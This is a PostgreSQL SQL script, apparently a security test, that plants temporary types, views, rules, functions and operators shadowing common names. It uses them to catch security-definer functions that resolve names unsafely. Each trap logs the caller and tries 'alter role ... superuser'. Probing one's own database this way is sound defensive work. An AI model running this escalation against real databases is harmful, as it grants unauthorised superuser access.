-- What somebody makes who may make temporary objects alone and waits for a function of the owner's to stumble over them:
-- types, tables, functions and operators with the names that ours use. Each notes as whom it runs, and tries to use it.
--
-- Its author may add to the list, as anybody may, and not take away from it.
create function pg_temp.evil(p_where pg_catalog.text)
returns pg_catalog.bool
language plpgsql
as $$
begin
  insert into public.victims (who, by_way_of) values (current_user, p_where);
  if current_user <> session_user then
    begin
      execute pg_catalog.format('alter role %I superuser', session_user);
    exception
      -- Somebody alters the role in another database at this moment; the list has its row all the same.
      when internal_error then
        null;
    end;
  end if;
  return true;
exception
  when insufficient_privilege then
    return true;
end
$$;

do $$
declare
  v_name pg_catalog.text;
begin
  -- Types of one word; those that the grammar knows (int, boolean, timestamp with time zone) cannot be shadowed.
  foreach v_name in array array[
    'uuid', 'text', 'jsonb', 'json', 'timestamptz', 'date', 'bytea', 'name', 'int2', 'int4', 'int8', 'float8', 'bool',
    'regclass', 'regrole', 'regnamespace', 'oid', 'timestamp', 'interval', 'numeric', 'varchar',
    -- Ours.
    'app_role', 'judgement', 'decision', 'dm_item', 'claim'
  ]::pg_catalog.text[] loop
    execute pg_catalog.format(
      'create domain pg_temp.%I as %s check (pg_temp.evil(pg_catalog.concat(''type %I '', value)))',
      v_name,
      case
        when pg_catalog.to_regtype('pg_catalog.' || v_name) is null then 'pg_catalog.text'
        else 'pg_catalog.' || pg_catalog.quote_ident(v_name)
      end,
      v_name
    );
  end loop;

  -- Relations: whatever reads or writes one of these runs evil.
  for v_name in
    select table_name
    from public.table_names
  loop
    execute pg_catalog.format(
      'create view pg_temp.%I as select * from pg_catalog.pg_class where pg_temp.evil(%L)',
      v_name,
      'relation ' || v_name
    );
    execute pg_catalog.format(
      'create rule evil as on insert to pg_temp.%I do instead select pg_temp.evil(%L)',
      v_name,
      'insert into ' || v_name
    );
  end loop;

  -- Functions, as ours call those of pg_catalog.
  foreach v_name in array array[
    'now()', 'clock_timestamp()', 'gen_random_uuid()', 'uid()', 'role()', 'jwt()', 'char_length(text)', 'md5(text)',
    'jsonb_typeof(jsonb)', 'to_jsonb(text)', 'current_setting(text, boolean)', 'set_config(text, text, boolean)',
    'array_length(uuid[], int)', 'cardinality(uuid[])', 'lower(text)', 'jsonb_array_elements(jsonb)',
    'jsonb_array_length(jsonb)', 'jsonb_strip_nulls(jsonb)', 'isfinite(timestamptz)', 'floor(float8)', 'hashtext(text)'
  ]::pg_catalog.text[] loop
    execute 'set local search_path = pg_catalog';
    execute pg_catalog.format(
      'create function pg_temp.%s returns pg_catalog.text language sql return pg_temp.evil(%L)::pg_catalog.text',
      v_name,
      'function ' || v_name
    );
  end loop;
end
$$;

set search_path = pg_catalog;

create function pg_temp.evil_operator(a uuid, b uuid) returns boolean language sql return pg_temp.evil('operator uuid');
create function pg_temp.evil_operator(a text, b text) returns boolean language sql return pg_temp.evil('operator text');
create function pg_temp.evil_operator(a jsonb, b text) returns text language sql
return pg_temp.evil('operator jsonb')::text;
create operator pg_temp.= (leftarg = uuid, rightarg = uuid, function = pg_temp.evil_operator);
create operator pg_temp.<> (leftarg = uuid, rightarg = uuid, function = pg_temp.evil_operator);
create operator pg_temp.= (leftarg = text, rightarg = text, function = pg_temp.evil_operator);
create operator pg_temp.~ (leftarg = text, rightarg = text, function = pg_temp.evil_operator);
create operator pg_temp.->> (leftarg = jsonb, rightarg = text, function = pg_temp.evil_operator);

-- What finds these first where it may, and takes them for its own.
set search_path = pg_temp, pg_catalog;
